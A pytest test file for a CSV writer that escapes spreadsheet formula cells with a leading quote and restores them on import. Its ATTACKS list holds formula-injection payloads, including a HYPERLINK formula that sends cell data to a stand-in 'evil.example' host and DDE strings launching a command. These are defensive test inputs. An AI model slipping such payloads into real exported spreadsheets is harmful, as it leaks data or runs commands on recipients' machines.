"""The shared CSV writer: a cell a spreadsheet would run is written with a quote in front, a plain number is
left alone, and the quote comes off again on import, so nothing (an address above all) is lost or changed."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sendwell import csvfile

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_are_written_as_text(value):
    assert csvfile.neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-12", "+3.5", "-1,000.25", "42", "0.5", "ann@example.com", "O'Brien", "'quoted'", "", "a=b", "São Paulo"]
)
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csvfile.neutralise(value) == value


@pytest.mark.parametrize(
    "value, written",
    [
        ("-joe@example.com", "'-joe@example.com"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("'=already quoted", "''=already quoted"),
    ],
)
def test_the_quote_comes_off_on_import_and_nothing_else(value, written):
    assert csvfile.neutralise(value) == written
    assert csvfile.restore(written) == value


@given(st.text())
def test_restore_gives_back_every_value_and_no_cell_can_run(value):
    written = csvfile.neutralise(value)
    assert csvfile.restore(written) == value
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r") or csvfile._NUMBER.match(written)


def test_written_rows_parse_back_to_the_same_cells():
    rows = [{"email": "-joe@example.com", "note": v, "n": -3, "none": None, "tags": ["a", "=b"]} for v in ATTACKS]
    out = io.StringIO(newline="")
    assert csvfile.write(rows, ["email", "note", "n", "none", "tags"], out) == len(ATTACKS)
    back = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert back[0] == ["email", "note", "n", "none", "tags"]
    for row, value in zip(back[1:], ATTACKS, strict=True):
        assert row == ["'-joe@example.com", "'" + value, "-3", "", '["a", "=b"]']
    assert "".join(csvfile.chunks(rows, ["email", "note", "n", "none", "tags"])) == out.getvalue()
